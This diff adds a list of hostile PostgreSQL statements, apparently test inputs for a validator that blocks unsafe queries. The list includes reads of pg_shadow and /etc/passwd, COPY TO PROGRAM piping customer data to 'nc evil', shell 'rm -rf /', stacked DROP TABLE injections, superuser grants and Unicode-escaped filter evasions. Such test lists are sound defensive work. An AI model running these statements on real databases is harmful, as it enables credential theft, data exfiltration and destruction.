@@ -1,0 +1,144 @@
+SELECT * FROM pg_catalog.pg_authid
+SELECT * FROM pg_stat_activity
+SELECT * FROM pg_user
+SELECT rolname FROM pg_roles
+SELECT * FROM pg_ls_dir('/etc')
+SELECT pg_ls_logdir()
+SELECT pg_read_binary_file('/etc/passwd')
+SELECT pg_stat_file('/etc/passwd')
+SELECT lo_import('/etc/passwd'), lo_export(1, '/tmp/x')
+SELECT lo_creat(-1)
+SELECT lo_unlink(5)
+SELECT pg_file_write('x', 'y', true)
+SELECT pg_logfile_rotate(), pg_reload_conf()
+SELECT pg_switch_wal()
+SELECT pg_terminate_backend(pid) FROM customers
+SELECT pg_advisory_lock(1)
+SELECT pg_try_advisory_xact_lock(1)
+SELECT pg_notify('x', 'y')
+SELECT pg_sleep_for('5 minutes'), pg_sleep_until('tomorrow')
+SELECT set_config('search_path', 'x', false)
+SELECT setval('s', 1), currval('s'), lastval()
+SELECT txid_current(), pg_export_snapshot()
+SELECT current_user, session_user
+SELECT current_database(), version()
+SELECT current_schema(), inet_server_addr()
+SELECT has_table_privilege('orders', 'SELECT')
+SELECT query_to_xml('SELECT 1', true, true, '')
+SELECT table_to_xml('orders', true, true, '')
+SELECT cursor_to_xml('c', 1, true, true, '')
+SELECT schema_to_xml('public', true, true, '')
+SELECT database_to_xml_and_xmlschema(true, true, '')
+SELECT * FROM dblink('x', 'SELECT 1') AS t(a int)
+SELECT dblink_connect('x'), dblink_exec('DROP TABLE x')
+SELECT * FROM crosstab('SELECT 1') AS t(a int)
+SELECT * FROM postgres_fdw_get_connections()
+SELECT pg_get_viewdef('v'::regclass), pg_get_functiondef(1)
+SELECT pg_relation_filepath('orders')
+SELECT pg_database_size('postgres')
+SELECT ts_stat('SELECT 1')
+SELECT plpgsql_call_handler()
+SELECT "pg_sleep"(1)
+SELECT pg_catalog."pg_sleep"(1)
+SELECT U&"pg\005fsleep"(1)
+SELECT * FROM U&"\0070g_shadow"
+SELECT * FROM U&"!0070g_shadow" UESCAPE '!'
+SELECT 1 FROM "pg_shadow"
+TABLE pg_authid
+SELECT (TABLE pg_shadow)
+SELECT name FROM customers WHERE id IN (TABLE pg_shadow)
+SELECT * FROM ONLY pg_class
+SELECT * FROM ROWS FROM (pg_ls_dir('/'))
+SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('/')) AS x
+SELECT x FROM customers, LATERAL pg_ls_dir('/') AS x
+SELECT x FROM customers CROSS JOIN LATERAL (SELECT pg_read_file(name)) AS y(x)
+SELECT COUNT(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM orders
+SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY pg_sleep(1)) FROM orders
+SELECT array_agg(total ORDER BY pg_sleep(1)) FROM orders
+SELECT id FROM orders LIMIT (SELECT pg_sleep(1)::text::int)
+SELECT id FROM orders OFFSET length(pg_read_file('x'))
+SELECT DISTINCT ON (pg_sleep(1)) id FROM orders
+SELECT 1 WINDOW w AS (ORDER BY pg_sleep(1))
+SELECT ARRAY[pg_sleep(1)]
+SELECT ROW(pg_sleep(1))
+SELECT (pg_stat_file('x')).size
+SELECT name FROM customers GROUP BY ROLLUP (name, pg_sleep(1))
+VALUES (pg_sleep(1))
+SELECT * FROM (VALUES (pg_sleep(1))) AS v
+DO $$ BEGIN PERFORM pg_sleep(1); END $$
+DO LANGUAGE plpgsql $x$ BEGIN DELETE FROM orders; END $x$
+COPY (SELECT * FROM customers) TO PROGRAM 'nc evil 1'
+COPY customers TO STDOUT
+COPY orders FROM PROGRAM 'id'
+\! rm -rf /
+\copy orders to '/tmp/x'
+SELECT 1 \gexec
+SELECT 1 \g /tmp/x
+SELECT $$x$$; DROP TABLE orders; --$$
+SELECT 'a' 'b'; DELETE FROM orders
+SELECT E'\'; DROP TABLE orders; --'; DROP TABLE items
+SELECT /* /* nested */ 1 */ 1; DROP TABLE orders
+SELECT id FROM orders FOR NO KEY UPDATE
+SELECT id FROM orders FOR KEY SHARE
+SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id FOR UPDATE OF o
+(SELECT id FROM orders FOR UPDATE)
+SELECT id FROM orders UNION ALL (SELECT id FROM customers FOR SHARE)
+SELECT id FROM orders WHERE id IN (SELECT id FROM orders FOR UPDATE)
+EXPLAIN (ANALYZE, BUFFERS) SELECT 1
+EXPLAIN (ANALYZE) DELETE FROM orders
+EXECUTE s(1)
+PREPARE s (int) AS SELECT $1
+DECLARE c CURSOR FOR SELECT * FROM orders
+DISCARD ALL
+LISTEN x
+NOTIFY x, 'y'
+CHECKPOINT
+CLUSTER orders
+REINDEX TABLE orders
+VACUUM FULL orders
+SECURITY LABEL ON TABLE orders IS 'x'
+IMPORT FOREIGN SCHEMA x FROM SERVER y INTO z
+CREATE EXTENSION dblink
+CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
+ALTER SYSTEM SET work_mem = '1GB'
+ALTER ROLE postgres SUPERUSER
+REASSIGN OWNED BY a TO b
+SET LOCAL statement_timeout = 0
+SET ROLE postgres
+SHOW data_directory
+SELECT * INTO TEMP x FROM orders
+SELECT id INTO UNLOGGED TABLE x FROM orders
+WITH x AS (SELECT 1) SELECT * INTO y FROM x
+WITH d AS (DELETE FROM orders RETURNING *), e AS (SELECT 1 AS x) SELECT x FROM e
+WITH m AS (MERGE INTO orders o USING items i ON o.id = i.id WHEN MATCHED THEN DELETE RETURNING o.id) SELECT * FROM m
+WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + pg_sleep(1)::text::int FROM r WHERE n < 3) SELECT n FROM r
+SELECT nothing FROM orders, generate_series(1, 3) AS g
+SELECT nothing FROM customers, unnest(tags) AS t
+SELECT nothing FROM customers c CROSS JOIN LATERAL jsonb_each(c.profile) AS j
+SELECT c.nothing FROM customers c, unnest(c.tags) AS t(tag)
+SELECT t.nothing FROM customers c, unnest(c.tags) AS t(tag)
+SELECT nothing FROM customers c, jsonb_to_record(c.profile) AS x(a int, b text)
+SELECT x.c FROM customers c, jsonb_to_record(c.profile) AS x(a int, b text)
+SELECT n.nothing FROM customers c, LATERAL (SELECT total FROM orders o WHERE o.customer_id = c.id) n
+SELECT 1 FROM customers c, (SELECT total FROM orders o WHERE o.customer_id = c.id) n
+SELECT "Name" FROM customers
+SELECT "Odd Names"."qty;sold" FROM "Odd Names"
+SELECT * FROM "odd names"
+SELECT * FROM "Customers"
+SELECT id FROM orders ORDER BY total + nothing
+SELECT id FROM orders WHERE (customer_id, nothing) = (1, 2)
+SELECT id FROM orders WHERE total > ALL (SELECT nothing FROM items)
+SELECT SUM(total) FILTER (WHERE nothing > 1) FROM orders
+SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY nothing) FROM orders
+SELECT tags[nothing] FROM customers
+SELECT profile -> nothing FROM customers
+SELECT (c).nothing FROM customers c
+SELECT 'orders'::regclass, 'pg_shadow'::regclass::oid
+SELECT to_regclass('pg_shadow')
+SELECT nextval('orders_id_seq'::regclass)
+SELECT xmlparse(document '<x/>')
+SELECT lo_get(1), loread(1, 1)
+SELECT brin_summarize_new_values('i')
+SELECT pg_create_restore_point('x'), pg_promote()
+SELECT pg_logical_emit_message(false, 'a', 'b')
+SELECT obj_description(1), col_description(1, 1)
